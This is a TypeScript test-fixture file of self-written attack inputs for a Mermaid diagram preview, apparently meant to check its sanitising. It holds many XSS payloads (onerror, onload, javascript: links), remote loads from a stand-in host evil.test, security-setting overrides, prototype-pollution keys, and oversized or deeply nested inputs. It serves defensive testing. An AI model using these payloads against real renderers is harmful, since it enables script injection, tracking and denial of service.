/** Our own attacks on the preview, by what they try. None needs a fault of Mermaid's that is not public. */

const flow = (label: string): string => `flowchart LR\n  A["${label}"] --> B[plain]`;
const front = (config: string, diagram = 'flowchart LR\n  A[protected] --> B'): string =>
  `---\n${config}\n---\n${diagram}`;
const nested = (levels: number, open: (level: number) => string, close: string): string =>
  Array.from({ length: levels }, (_, level) => open(level)).join('\n') + `\n${`${close}\n`.repeat(levels)}`;
const lines = (count: number, line: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => line(index)).join('\n');

export const attacks: Readonly<Record<string, readonly string[]>> = {
  'HTML in labels': [
    flow('<details open ontoggle=xss()><summary>more</summary>x</details>'),
    flow('<marquee onstart=xss()>m</marquee><video autoplay><source src=x onerror=xss()></video>'),
    flow('<iframe srcdoc=&lt;script&gt;parent.xss()&lt;/script&gt;></iframe><object data=http://evil.test/o></object>'),
    flow('<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img src=x onerror=xss()&gt;>'),
    flow('<noscript><p title=</noscript><img src=x onerror=xss()>></noscript>'),
    flow('<template><img src=x onerror=xss()></template><slot onslotchange=xss()></slot>'),
    flow(
      '<meta http-equiv=refresh content=0;url=http://evil.test/m><base href=http://evil.test/><link rel=dns-prefetch href=//evil.test>',
    ),
    flow(
      '<textarea autofocus onfocus=xss()></textarea><select><option>a</select><input type=image src=http://evil.test/f>',
    ),
    flow(
      '<button popovertarget=p formaction=http://evil.test>b</button><div id=p popover>p</div><dialog open>d</dialog>',
    ),
    flow(
      '<a id=acquireVsCodeApi name=body href=https://example.test/>x</a><img name=getElementById id=toolbar class=toolbar>',
    ),
    flow(
      '<audio src=http://evil.test/a autoplay></audio><picture><source srcset=http://evil.test/s><img src=http://evil.test/i></picture>',
    ),
    flow("<img src=http://evil.test/i.png srcset='http://evil.test/j.png 2x' onload=xss()>"),
    flow('#lt;img src=x onerror=xss()#gt; &lt;img src=x onerror=xss()&gt; #60;script#62;xss()#60;/script#62;'),
    'flowchart LR\n  A["`**bold** [link](javascript:xss()) ![p](http://evil.test/p.png) <img src=x onerror=xss()>`"]',
    'sequenceDiagram\n  participant A as <img src=x onerror=xss()>\n  A->>B: <script>xss()</script><b onclick=xss()>b</b>\n  Note over A: <iframe src=http://evil.test></iframe>',
    'classDiagram\n  class A["<img src=x onerror=xss()>"] {\n    +field~script~ <img src=x onerror=xss()>\n  }\n  note for A "<svg onload=xss()>"',
    'stateDiagram-v2\n  s: <img src=x onerror=xss()>\n  note right of s\n    <svg><animate onbegin=xss() attributeName=x dur=1s>\n  end note',
    'erDiagram\n  A ||--o{ B : "<img src=x onerror=xss()>"\n  A {\n    string n "<svg onload=xss()>"\n  }',
    'mindmap\n  root((<img src=x onerror=xss()>))\n    ::icon(x" onmouseover="xss())\n    a["<a href=javascript:xss()>a</a>"]',
    'timeline\n  title <img src=x onerror=xss()>\n  2024 : <a href="javascript:xss()">a</a> : <svg onload=xss()>',
    'kanban\n  todo[<img src=x onerror=xss()>]\n    t[<iframe src=http://evil.test></iframe>]@{ ticket: "javascript:xss()", assigned: "<svg onload=xss()>" }',
    'C4Context\n  Person(a, "<img src=x onerror=xss()>", $sprite="http://evil.test/s.png", $link="javascript:xss()")',
    'architecture-beta\n  service a(cloud)[<img src=x onerror=xss()>]',
    'block\n  a["<img src=http://evil.test/i onerror=xss()>"] b["<form action=http://evil.test><input></form>"]',
    'treemap\n"<img src=x onerror=xss()>"\n  "b": 1',
    'gitGraph\n  commit id: "<img src=x onerror=xss()>" tag: "<svg onload=xss()>"',
    'pie title <img src=x onerror=xss()>\n  "<svg onload=xss()>" : 1',
    'venn-beta\n  set A["<img src=x onerror=xss()>"]\n  set B',
    'usecase-beta\n  actor A("<img src=x onerror=xss()>")\n  U("<svg onload=xss()>")\n  A --> U',
    'treeView-beta\n  "<img src=x onerror=xss()>/"\n    "<script>xss()</script>.ts" ## <svg onload=xss()>',
    'zenuml\n  title <img src=x onerror=xss()>\n  // **x** [a](javascript:xss()) ![i](http://evil.test/i.png) <img src=x onerror=xss()>\n  "<svg onload=xss()>"->B.m("<script>xss()</script>") {\n    return <img src=x onerror=xss()>\n  }',
  ],
  'SVG in labels': [
    flow(
      "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss()</script></svg>#x'/></svg>",
    ),
    flow('<svg><image href=http://evil.test/i.png onerror=xss() /><feImage href=http://evil.test/f /></svg>'),
    flow('<svg><a xlink:href=javascript:xss()><text>t</text></a><set attributeName=href to=javascript:xss() /></svg>'),
    flow('<svg><foreignObject><iframe srcdoc=x></iframe><body onload=xss()></foreignObject></svg>'),
    flow('<svg><script href=http://evil.test/s.js></script><script>xss()</script></svg>'),
    flow('<svg><style>@import url(http://evil.test/i.css);*{background:url(http://evil.test/b)}</style></svg>'),
    flow(
      '<svg><filter id=f><feImage href=http://evil.test/f /></filter><rect filter=url(http://evil.test/f#f) fill=url(//evil.test/p#q) /></svg>',
    ),
    flow(
      '<svg><animate attributeName=href values=javascript:xss() onbegin=xss() /><animateMotion onend=xss() /></svg>',
    ),
  ],
  'styles that load or cover': [
    flow(
      "<style>@import 'http://evil.test/a.css'; @font-face{font-family:x;src:url(http://evil.test/f)} *{font-family:x}</style>x",
    ),
    flow(
      "<span style='background:url(http://evil.test/1);list-style-image:image-set(url(http://evil.test/2) 1x)'>s</span>",
    ),
    flow("<span style='cursor:url(http://evil.test/3),auto;--u:url(http://evil.test/4);background:var(--u)'>s</span>"),
    flow(
      "<span style='background:u\\72l(http://evil.test/5);mask:url(http://evil.test/m.svg#m);filter:url(http://evil.test/6#f)'>s</span>",
    ),
    flow(
      "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:2147483647;background:red'>cover</div>",
    ),
    'flowchart LR\n  A:::c --> B\n  classDef c fill:url(http://evil.test/c#d),stroke:red\n  style B fill:#fff,background:url(http://evil.test/s)\n  linkStyle 0 stroke:url(http://evil.test/l#x)',
    'stateDiagram-v2\n  a --> b\n  classDef c fill:url(http://evil.test/c#d)\n  class a c',
    'gantt\n  todayMarker stroke:url(http://evil.test/t#x),background:url(http://evil.test/u)\n  dateFormat YYYY-MM-DD\n  section s\n  a : 2024-01-01, 3d',
    'C4Context\n  Person(a, "a")\n  UpdateElementStyle(a, $bgColor="url(http://evil.test/c)", $borderColor="red;background:url(http://evil.test/d)")',
    '%%{init: {"themeVariables": {"primaryColor": "red;} body{display:none} x{", "lineColor": "url(http://evil.test/v)"}}}%%\nflowchart LR\n  A --> B',
    '%%{init: {"themeCSS": "} * { display: none; background: url(http://evil.test/w) } x {"}}%%\nflowchart LR\n  A --> B',
    front(
      'config:\n  fontFamily: "x; } * { background: url(http://evil.test/x) } y {"\n  altFontFamily: "x\';}*{}"\n  fontSize: "9px;}*{display:none}"',
    ),
    front(
      'config:\n  xyChart:\n    titleColor: "url(http://evil.test/y)"\n  themeVariables:\n    xyChart:\n      plotColorPalette: "url(http://evil.test/z), #fff"',
      'xychart-beta\n  bar [1, 2]',
    ),
    front(
      'config:\n  themeVariables:\n    fontFamily: "x;}@import url(http://evil.test/q);"\n    background: "url(http://evil.test/bg)"',
    ),
  ],
  'links that lead away': [
    'flowchart LR\n  A --> B --> C --> D\n  click A "javascript:xss()"\n  click B call xss()\n  click C href "data:text/html,<script>xss()</script>" _top\n  click D "java\tscript:xss()"',
    'flowchart LR\n  A --> B --> C --> D\n  click A href "about:blank" _self\n  click B href "file:///etc/passwd"\n  click C href "command:workbench.action.quit"\n  click D href "vscode://x/y" _parent',
    'flowchart LR\n  A --> B --> C\n  click A href "//evil.test/p"\n  click B href "\\\\evil.test\\q"\n  click C href " \u0001javascript:xss()"',
    flow(
      '<a href=javascript&colon;xss()>a</a><a href=JaVaScRiPt:xss()>b</a><a href=vbscript:x ping=http://evil.test/ping>c</a><a href=blob:x target=_top>d</a>',
    ),
    'sequenceDiagram\n  participant A\n  link A: x @ javascript:xss()\n  links A: {"y": "javascript:xss()", "z": "file:///etc/passwd"}\n  properties A: {"class": "x", "icon": "@http://evil.test/i.png"}\n  A->>A: m',
    'classDiagram\n  class A\n  class B\n  link A "javascript:xss()"\n  callback B "xss"\n  click B call xss() "t"',
    'gantt\n  dateFormat YYYY-MM-DD\n  section s\n  a : a1, 2024-01-01, 3d\n  b : b1, 2024-01-02, 3d\n  click a1 href "javascript:xss()"\n  click b1 call xss()',
    'stateDiagram-v2\n  a --> b\n  click a href "javascript:xss()"',
    'zenuml\n  // [x](javascript:xss()) [y](file:///etc/passwd)\n  A->B: m',
  ],
  'settings that are not theirs': [
    front(
      'config:\n  securityLevel: loose\n  secure: []\n  htmlLabels: true\n  dompurifyConfig:\n    ADD_TAGS: [script, iframe]\n    ADD_ATTR: [onerror]',
      flow('<img src=x onerror=xss()>'),
    ),
    `%%{init: {"securityLevel": "loose", "secure": [], "logLevel": 0, "startOnLoad": true}}%%\n${flow('<img src=x onerror=xss()>')}`,
    `%%{initialize: {"securityLevel": "antiscript"}}%%\n%%{init: {"flowchart": {"securityLevel": "loose", "htmlLabels": true}}}%%\n${flow('<b onclick=xss()>b</b>')}`,
    front(
      'config:\n  securityLevel: sandbox\n  maxTextSize: 999999999\n  maxEdges: 999999999\n  suppressErrorRendering: false',
    ),
    front(
      'config:\n  deterministicIDSeed: "x\\" onload=\\"xss()"\n  deterministicIds: false\n  arrowMarkerAbsolute: true',
    ),
  ],
  'names of the language’s own': [
    front('config:\n  __proto__:\n    polluted: 1\n  constructor:\n    prototype:\n      polluted: 1'),
    '%%{init: {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "themeVariables": {"__proto__": {"polluted": 1}}}}%%\nflowchart LR\n  A --> B',
    'flowchart LR\n  __proto__ --> constructor --> toString --> hasOwnProperty\n  style constructor fill:#fff\n  classDef __proto__ fill:#000\n  class toString __proto__',
    'classDiagram\n  class constructor\n  class hasOwnProperty {\n    +__proto__ valueOf\n  }\n  constructor <|-- hasOwnProperty',
    'stateDiagram-v2\n  __proto__ --> constructor\n  constructor --> toString',
    'erDiagram\n  constructor ||--o{ toString : __proto__\n  constructor {\n    string __proto__\n  }',
    'sequenceDiagram\n  participant __proto__\n  participant constructor\n  __proto__->>constructor: valueOf\n  properties constructor: {"__proto__": {"polluted": 1}}',
    'architecture-beta\n  group __proto__(cloud)[g]\n  service constructor(server)[s] in __proto__\n  service toString(disk)[t]\n  constructor:R --> L:toString',
    'gitGraph\n  commit id: "__proto__"\n  branch constructor\n  checkout constructor\n  commit id: "toString"',
    'sankey-beta\n\n__proto__,constructor,3\nconstructor,toString,2',
    'flowchart LR\n  A@{ shape: "__proto__", constructor: 1, __proto__: { polluted: 1 } }',
  ],
  formulas: [
    'flowchart LR\n  A["$$\\\\href{javascript:xss()}{x}$$"] --> B["$$\\\\url{http://evil.test/u}$$"]',
    'sequenceDiagram\n  A->>B: $$\\includegraphics{http://evil.test/i.png}$$\n  B->>A: $$\\htmlStyle{background:url(http://evil.test/h)}{x}\\htmlClass{toolbar}{y}$$',
    'sequenceDiagram\n  A->>B: $$\\href{javascript:xss()}{x}$$',
    'flowchart LR\n  A["$$\\\\def\\\\a{\\\\a\\\\a}\\\\a$$"]',
    'flowchart LR\n  A["$$x$$<img src=x onerror=xss()>$$y$$"]',
    'sequenceDiagram\n  A->>B: $$\\text{</math><img src=x onerror=xss()>}$$',
    `flowchart LR\n  A["$$${'{'.repeat(900)}x${'}'.repeat(900)}$$"]`,
    `sequenceDiagram\n  A->>B: $$\\rule{99999em}{99999em}\\kern{99999999em}$$`,
  ],
  'pictures and icons': [
    'flowchart LR\n  A@{ img: "http://evil.test/a.png", label: "a" }',
    'flowchart LR\n  A@{ img: "javascript:xss()", label: "a" }',
    'flowchart LR\n  A@{ img: "data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'xss()\'><script>xss()</script></svg>", label: "a", w: 10, h: 10 }',
    'flowchart LR\n  A@{ icon: "logos:../../frame", label: "a" } --> B@{ icon: "mdi:__proto__", label: "b" } --> C@{ icon: "mdi:constructor", label: "c" }',
    'flowchart LR\n  A@{ icon: "evil:<img src=x onerror=xss()>", label: "a" } --> B@{ icon: "https://evil.test/i.svg", label: "b" }',
    'architecture-beta\n  service a(logos:constructor)[a]\n  service b(http:evil)[b]\n  service c(mdi:tostring)[c]',
    `flowchart LR\n${lines(36, (index) => `  n${index}@{ icon: "logos:${index.toString(36)}", label: "x" }`)}`,
  ],
  'signs that are not seen': [
    flow('total \u202e001 RUE\u202c of\u200b 9\u2066 hidden\u2069 \ufeff end'),
    flow('Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(60)),
    'flowchart LR\n  A["\ud800 lone"] --> B["\u0000 nothing"]',
    'sequenceDiagram\n  participant \u202eA\n  A->>B: \u2028 line \u2029 paragraph',
  ],
  'numbers without measure': [
    'gantt\n  dateFormat YYYY-MM-DD\n  section s\n  a : 2024-01-01, 999999999d\n  b : 0001-01-01, 9999-12-31',
    'gantt\n  dateFormat X\n  tickInterval 1millisecond\n  section s\n  a : 0, 99999999999',
    'pie\n  "a" : 1e308\n  "b" : 0.000000000000000000000001',
    'xychart-beta\n  y-axis 0 --> 1e300\n  x-axis 0 --> 99999999999999999999\n  bar [1e299, 5]',
    'packet-beta\n  0-99999999: "all"',
    'quadrantChart\n  a: [0.9999999999999999999, 1e-300] radius: 99999999',
    'radar-beta\n  axis a, b, c\n  curve x{1e300, 2, 3}\n  ticks 99999999\n  max 1e300',
    'journey\n  section s\n    a: 99999999999: me',
    'sankey-beta\n\na,b,1e300\nb,c,1e-300',
    'block\n  columns 9999\n  a:9999 space:9999',
    front('config:\n  flowchart:\n    nodeSpacing: 1e12\n    rankSpacing: 1e12\n    padding: -1e9'),
    front(
      'config:\n  sequence:\n    width: 1e9\n    actorMargin: 1e9\n    wrap: true',
      'sequenceDiagram\n  A->>B: words that wrap at nothing',
    ),
    front('config:\n  fontSize: 99999\n  gantt:\n    barHeight: 1e9', 'gantt\n  section s\n  a : 2024-01-01, 3d'),
    'treemap\n"a": 1e300\n"b": 0.0000001',
    'wardley-beta\n  title x\n  component A [999999999, -99999999]',
  ],
  'texts without end': [
    `flowchart LR\n${nested(150, (level) => `subgraph s${level}`, 'end')}  A --> B`,
    `mindmap\n${lines(200, (level) => `${' '.repeat(level + 1)}n${level}`)}`,
    `flowchart LR\n${lines(480, (index) => `  n${index % 40} --> n${(index * 7) % 40}`)}`,
    `flowchart LR\n${lines(10_000, (index) => `  n${index} --> n${index + 1}`)}`,
    `sequenceDiagram\n${nested(120, () => 'loop again', 'end')}`,
    `sequenceDiagram\n${lines(900, () => '  A->>B: m')}`,
    `stateDiagram-v2\n${nested(60, (level) => `state s${level} {`, '}')}`,
    `zenuml\n${nested(80, (level) => `A${level}.m() {`, '}')}`,
    `zenuml\n  A.m(${'('.repeat(900)}${')'.repeat(900)})`,
    `classDiagram\n${lines(180, (index) => `  class c${index} {\n    +m${index}()\n  }`)}`,
    `erDiagram\n${lines(150, (index) => `  e${index} ||--o{ e${index + 1} : r`)}`,
    `flowchart LR\n  A["${'word '.repeat(980)}"]`,
    `flowchart LR\n  A["${'"'.repeat(4_000)}"]`,
    `flowchart LR\n  A${'['.repeat(2_000)}x${']'.repeat(2_000)}`,
    `flowchart LR\n  A ${'-'.repeat(4_500)}> B`,
    `flowchart LR\n  A["\`${'**a '.repeat(900)}\`"]`,
    `${'%%{wrap}%%\n'.repeat(900)}flowchart LR\n  A`,
    `${'%% comment\n'.repeat(3_500)}flowchart LR\n  A`,
    `flowchart LR\n  ${'A & '.repeat(60)}B --> ${'C & '.repeat(60)}D`,
    front(`config:\n  x: ${'['.repeat(2_000)}${']'.repeat(2_000)}`),
    front('a: &a [x, x, x]\nb: &b [*a, *a, *a]\nc: &c [*b, *b, *b]\ntitle: few\n'),
    front('base: &base\n  theme: dark\nconfig:\n  <<: *base'),
    front(`title: ${'\t '.repeat(1_500)}`),
    `railroad\n  x = ${'( '.repeat(400)}a${' )'.repeat(400)}`,
    `gitGraph\n${lines(400, (index) => `  commit id: "c${index}"`)}`,
    `kanban\n  a\n${lines(200, (index) => `    t${index}[task]`)}`,
    `quadrantChart\n${lines(300, (index) => `  p${index}: [0.5, 0.5]`)}`,
    `sankey-beta\n\n${lines(400, (index) => `a${index % 20},b${index % 23},1`)}`,
  ],
};
